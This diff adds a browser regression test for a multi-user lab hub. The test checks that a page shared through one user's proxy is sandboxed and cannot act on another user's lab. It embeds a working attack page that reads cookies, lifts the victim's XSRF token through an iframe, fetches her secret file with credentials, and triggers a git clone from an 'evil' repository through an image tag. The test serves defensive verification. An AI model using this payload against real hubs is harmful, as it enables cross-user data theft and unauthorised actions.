@@ -94,3 +94,73 @@ def test_share_a_lab(hub_factory):
         wait_for(lambda u=user: call(u, "GET", "/api/contents").status_code == 403, 15,
                  f"{user}'s revoked share to stop working")
     assert hub.api("GET", "/shares/alice/").json()["items"] == []
+
+
+EVIL_PAGE = """<!DOCTYPE html><html><head><title>loading</title></head><body>
+<img src="/user/alice/git-pull/api?repo=https%3A%2F%2Fexample.org%2Fevil.git&targetpath=gp">
+<script>
+const out = [];
+try { out.push("cookies:" + document.cookie.length); } catch (e) { out.push("cookies:blocked"); }
+const frame = document.createElement("iframe");  // alice's page: its XSRF token, as she has it
+frame.src = "/user/alice/echoes/share";
+frame.onload = () => {
+  let xsrf = "";
+  try { xsrf = frame.contentDocument.querySelector("meta[name=xsrf]").content; }
+  catch (e) { out.push("frame:blocked"); }
+  fetch("/user/alice/api/contents/secret.txt",
+        {credentials: "include", headers: xsrf ? {"X-XSRFToken": xsrf} : {}})
+    .then(r => r.json()).then(m => out.push("read:" + m.content))
+    .catch(e => out.push("read:blocked"))
+    .finally(() => { document.title = out.join(" "); });
+};
+document.body.appendChild(frame);
+</script></body></html>"""
+
+
+@pytest.mark.browser
+def test_a_shared_page_cannot_act_on_another_lab(hub_factory, browser):
+    """Issue 26, reproduction 3, in Chromium: carol serves a page through her server-proxy and
+    shares her lab with alice; alice opens it. Before, the page ran in the hub's origin: it read
+    the hub's cookies and its requests reached alice's server as hers (title on the previous
+    main: "cookies:312 frame:blocked read:undefined", the read answered 403 for want of an XSRF
+    token only). Now the page is sandboxed (an opaque origin): no cookies, the browser itself
+    refuses its request to alice's lab, and its <img> clones nothing."""
+    import functools
+    import http.server
+    import threading
+
+    from harness import free_port, new_root
+
+    hub = hub_factory(**SETTINGS)
+    for user in ("alice", "carol"):
+        hub.create_user(user)
+        hub.start_server(user)
+    r = requests.put(f"{hub.url}/user/alice/api/contents/secret.txt", timeout=30,
+                     headers={"Authorization": f"token {hub.token}"},
+                     json={"type": "file", "format": "text", "content": "alice-secret"})
+    assert r.status_code == 201, r.text
+    assert hub.api("POST", "/shares/carol/", json={"user": "alice"}).status_code == 200
+    site = new_root("echoes-evil-site-")
+    (site / "evil.html").write_text(EVIL_PAGE)
+    server = http.server.ThreadingHTTPServer(
+        ("127.0.0.1", free_port()),
+        functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(site)))
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    context = browser.new_context()
+    try:
+        page = context.new_page()
+        page.goto(f"{hub.url}/hub/login?next=/user/alice/echoes/share")
+        page.fill("#username_input", "alice")
+        page.fill("#password_input", hub.secrets["user_password"])
+        page.click("#login_submit")
+        page.wait_for_url("**/user/alice/echoes/share", timeout=60_000)  # signed in to her lab
+        page.goto(f"{hub.url}/user/carol/proxy/{server.server_address[1]}/evil.html")
+        page.wait_for_url("**/oauth2/authorize**", timeout=60_000)  # carol's lab: asked once
+        page.click("form button[type=submit]")
+        page.wait_for_function("() => document.title.includes('read:')", timeout=60_000)
+        assert page.title() == "cookies:blocked frame:blocked read:blocked"
+    finally:
+        context.close()
+        server.shutdown()
+        server.server_close()
+    assert not (hub.state / "homes" / "alice" / "gp").exists()
